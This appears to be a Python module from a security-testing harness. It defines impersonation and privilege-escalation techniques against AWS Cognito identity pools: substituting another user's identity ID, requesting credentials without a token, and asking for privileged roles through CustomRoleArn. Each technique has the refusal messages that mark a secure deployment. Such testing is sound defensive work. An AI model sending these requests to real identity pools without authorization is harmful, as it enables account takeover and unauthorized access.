"""Becoming somebody else at the identity pool: another's identity, or a role one was not given."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING, Any

from harness.attacks.technique import Callers, ControlKind, Feature, Severity, Technique, Victim
from harness.blueprints.contract import Effect
from harness.targets.api import ApiRequest

if TYPE_CHECKING:
    from harness.attacks.aim import Aim
    from harness.attacks.technique import Step

_FLOW = "https://docs.aws.amazon.com/cognito/latest/developerguide/authentication-flow.html"
_ROLES = "https://docs.aws.amazon.com/cognito/latest/developerguide/role-based-access-control.html"


def _exchange(identity_id: str, **params: Any) -> tuple[ApiRequest, ...]:
    request = {"IdentityId": identity_id, **params}
    return (ApiRequest("cognito-identity", "GetCredentialsForIdentity", request),)


def _own_logins(aim: Aim) -> dict[str, str]:
    return {aim.deployment.provider: aim.id_token.reveal()}


def _get_id(aim: Aim) -> tuple[ApiRequest, ...]:
    params = {"IdentityPoolId": aim.deployment.identity_pool, "Logins": _own_logins(aim)}
    return (ApiRequest("cognito-identity", "GetId", params),)


def _as_a_guest(aim: Aim) -> tuple[Step, ...]:
    return (
        ApiRequest("cognito-identity", "GetId", {"IdentityPoolId": aim.deployment.identity_pool}),
        lambda answer: _exchange(answer["IdentityId"])[0],
    )


_BECOME = partial(
    Technique,
    plane="identity-pool",
    effect=Effect.SESSION,
    operation="GetCredentialsForIdentity",
    severity=Severity.BLOCKER,
    cwe=("CWE-287", "CWE-639"),
    requires=frozenset({Feature.ENHANCED_FLOW}),
)

TECHNIQUES = (
    _BECOME(
        id="identity-pool.session.foreign-identity-with-own-token",
        title="GetCredentialsForIdentity for a foreign identity with one's own token",
        documentation=_FLOW,
        catalogue=("idp-identity-id-substitution",),
        callers=Callers.MEMBERS,
        victims=Callers.MEMBERS,
        refusals=(r"Logins don't match\.",),
        returns_own=True,
        steps=lambda aim: _exchange(aim.victim.identity_id, Logins=_own_logins(aim), **aim.role_choice),
    ),
    _BECOME(
        id="identity-pool.session.foreign-identity-without-token",
        title="GetCredentialsForIdentity for a foreign identity without any token",
        documentation=_FLOW,
        catalogue=("idp-guest-identity-id-is-bearer", "idp-identity-id-substitution"),
        # A guest's own identity is what the control asks for: only guests get theirs without a token.
        requires=frozenset({Feature.GUESTS}),
        callers=Callers.GUESTS,
        victims=Callers.TENANTS,
        refusals=(r"Access to Identity '.*' is forbidden\.",),
        steps=lambda aim: _exchange(aim.victim.identity_id),
    ),
    _BECOME(
        id="identity-pool.session.custom-role-arn",
        title="CustomRoleArn of the staff's role, which is not among one's own",
        documentation=_ROLES,
        catalogue=("idp-custom-role-arn-outside-claim",),
        cwe=("CWE-269",),
        requires=frozenset({Feature.MAPPED_ROLES, Feature.PRIVILEGED_ROLE}),
        callers=Callers.MEMBERS,
        victim=Victim.NOBODY,
        control=ControlKind.WITNESS,
        refusals=(r"(?i)role",),
        steps=lambda aim: _exchange(aim.caller.identity_id, Logins=_own_logins(aim), CustomRoleArn=aim.privileged_role),
    ),
    _BECOME(
        id="identity-pool.session.custom-role-arn-of-another",
        title="CustomRoleArn of a role that other users' groups or claims give",
        documentation=_ROLES,
        catalogue=(
            "idp-custom-role-arn-outside-claim",
            "idp-custom-role-arn-legit-role-switch",
            "idp-rule-mapping-contains-startswith",
        ),
        cwe=("CWE-269",),
        requires=frozenset({Feature.MAPPED_ROLES, Feature.PERSONA_ROLE}),
        callers=Callers.MEMBERS,
        victims=Callers.MEMBERS,
        aims_at_role=True,
        refusals=(r"(?i)role",),
        steps=lambda aim: _exchange(aim.caller.identity_id, Logins=_own_logins(aim), CustomRoleArn=aim.victims_role),
    ),
    _BECOME(
        id="identity-pool.session.uninvited-guest",
        title="GetId and GetCredentialsForIdentity without any token, where guests are not let in",
        documentation=_FLOW,
        operation="GetId",
        catalogue=("idp-unauth-identities-enabled",),
        cwe=("CWE-306",),
        requires=frozenset({Feature.NO_GUESTS, Feature.ENHANCED_FLOW}),
        callers=Callers.MEMBERS,
        victim=Victim.NOBODY,
        refusals=(r"Unauthenticated access is not supported",),
        control_steps=lambda aim: _exchange(aim.caller.identity_id, Logins=_own_logins(aim), **aim.role_choice),
        steps=_as_a_guest,
    ),
    _BECOME(
        id="identity-pool.session.role-without-group",
        title="GetCredentialsForIdentity by a user whose groups or claims decide on no role",
        documentation=_ROLES,
        catalogue=(
            "idp-ambiguous-role-authenticated",
            "idp-group-precedence-tie",
            "idp-rule-mapping-contains-startswith",
            "idp-rule-mapping-notequal",
        ),
        cwe=("CWE-269",),
        requires=frozenset({Feature.MAPPED_ROLES}),
        callers=Callers.UNASSIGNED,
        victim=Victim.NOBODY,
        refusals=(r"ambiguous role mapping",),
        control_steps=_get_id,
        steps=lambda aim: _exchange(aim.caller.identity_id, Logins=_own_logins(aim)),
    ),
)
